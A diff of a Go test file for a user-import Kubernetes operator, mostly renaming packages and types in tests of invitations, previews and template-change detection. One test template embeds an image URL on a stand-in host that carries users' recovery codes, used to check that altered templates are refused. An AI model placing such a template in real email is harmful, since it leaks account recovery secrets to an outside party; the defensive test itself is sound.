@@ -14,8 +14,8 @@ import (
 	"github.com/userimport/user-import-operator/api/v1alpha1"
 	"github.com/userimport/user-import-operator/internal/directory/open"
 	_ "github.com/userimport/user-import-operator/internal/directory/sql"
-	"github.com/userimport/user-import-operator/internal/jobs"
-	"github.com/userimport/user-import-operator/internal/kube"
+	"github.com/userimport/user-import-operator/internal/keyread"
+	"github.com/userimport/user-import-operator/internal/runcontract"
 	"github.com/userimport/user-import-operator/internal/source"
 	"github.com/userimport/user-import-operator/internal/testenv"
 	"github.com/userimport/user-import-operator/internal/testpeer/mailpit"
@@ -62,7 +62,7 @@ func TestRelayRefusingThePasswordCompletesTheImport(t *testing.T) {
 	f.withInvitations(t, srv, "not-the-password")
 
 	var log bytes.Buffer
-	if _, err := f.run(context.Background(), t, jobs.StageImport, Tee(f.sink(), &ConsoleSink{Out: &log})); err != nil {
+	if _, err := f.run(context.Background(), t, runcontract.StageImport, Tee(f.sink(), &ConsoleSink{Out: &log})); err != nil {
 		t.Fatalf("the import failed: %v", err)
 	}
 	if n := f.countUsers(t); n != 150 {
@@ -94,8 +94,8 @@ func TestInvitationsNeedTheDirectorysRecord(t *testing.T) {
 	writeCSV(t, f.csvPath, 10)
 	f.withInvitations(t, srv, mailpit.Password)
 	f.dirSpec.Invitations = nil
-	_, err := f.run(context.Background(), t, jobs.StagePreview, f.sink())
-	var rej *jobs.Rejection
+	_, err := f.run(context.Background(), t, runcontract.StagePreview, f.sink())
+	var rej *runcontract.Rejection
 	if !errors.As(err, &rej) || rej.Reason != v1alpha1.ReasonInvitationsNotConfigured {
 		t.Fatalf("got %v, want a rejection InvitationsNotConfigured", err)
 	}
@@ -106,7 +106,7 @@ func TestInvitationsNeedTheDirectorysRecord(t *testing.T) {
 	if err := c.Update(context.Background(), imp); err != nil {
 		t.Fatal(err)
 	}
-	_, err = f.run(context.Background(), t, jobs.StagePreview, f.sink())
+	_, err = f.run(context.Background(), t, runcontract.StagePreview, f.sink())
 	if !errors.As(err, &rej) || rej.Reason != v1alpha1.ReasonInvalidMapping || !strings.Contains(rej.Message, "spec.invitations.addressAttribute") {
 		t.Fatalf("got %v, want a rejection naming spec.invitations.addressAttribute", err)
 	}
@@ -122,8 +122,8 @@ func TestInvitationsNeedTheDirectorysRecord(t *testing.T) {
 	if err := c.Update(context.Background(), imp); err != nil {
 		t.Fatal(err)
 	}
-	_, err = Run(context.Background(), Config{Stage: jobs.StagePreview, Import: f.get(t), Directory: f.dirSpec, Secrets: f.secrets,
-		ConfigMaps: kube.MountedConfigMaps(t.TempDir()), Source: source.Options{Dir: t.TempDir(), MountedFile: f.csvPath}, Open: open.Open, Sink: f.sink()})
+	_, err = Run(context.Background(), Config{Stage: runcontract.StagePreview, Import: f.get(t), Directory: f.dirSpec, Secrets: f.secrets,
+		ConfigMaps: keyread.MountedConfigMaps(t.TempDir()), Source: source.Options{Dir: t.TempDir(), MountedFile: f.csvPath}, Open: open.Directory, Sink: f.sink()})
 	if !errors.As(err, &rej) || rej.Reason != v1alpha1.ReasonInvalidTemplate || !strings.Contains(rej.Message, "welcome") {
 		t.Fatalf("got %v, want InvalidTemplate naming the ConfigMap", err)
 	}
@@ -150,21 +150,21 @@ func TestAnImportRefusesTemplatesChangedSinceItsPreview(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	run := func(stage Stage) (Outcome, error) {
+	run := func(stage Stage) (Result, error) {
 		return Run(ctx, Config{Stage: stage, Import: f.get(t), Directory: f.dirSpec, Secrets: f.secrets,
-			ConfigMaps: kube.MountedConfigMaps(cms), Source: source.Options{Dir: t.TempDir(), MountedFile: f.csvPath}, Open: open.Open, Sink: f.sink()})
+			ConfigMaps: keyread.MountedConfigMaps(cms), Source: source.Options{Dir: t.TempDir(), MountedFile: f.csvPath}, Open: open.Directory, Sink: f.sink()})
 	}
 	write("Hello {{.Identity}}, welcome.")
-	if _, err := run(jobs.StagePreview); err != nil {
+	if _, err := run(runcontract.StagePreview); err != nil {
 		t.Fatal(err)
 	}
 	if p := f.get(t).Status.Preview; p == nil || len(p.Templates) != 64 {
 		t.Fatalf("the preview does not record its templates: %+v", p)
 	}
 	write(`Hello {{.Identity}}, <img src="https://x.example/?c={{.RecoveryCode}}">`)
-	_, err := run(jobs.StageImport)
-	var changed *jobs.SourceChangedError
-	if !errors.As(err, &changed) || !changed.Templates || !jobs.IsSourceChanged(err.Error()) {
+	_, err := run(runcontract.StageImport)
+	var changed *runcontract.SourceChangedError
+	if !errors.As(err, &changed) || !changed.Templates || runcontract.OutcomeOf(nil, err).Kind != runcontract.SourceChanged {
 		t.Fatalf("an import after its templates changed: %v, want SourceChanged naming the templates", err)
 	}
 	if n := f.countUsers(t); n != 0 {
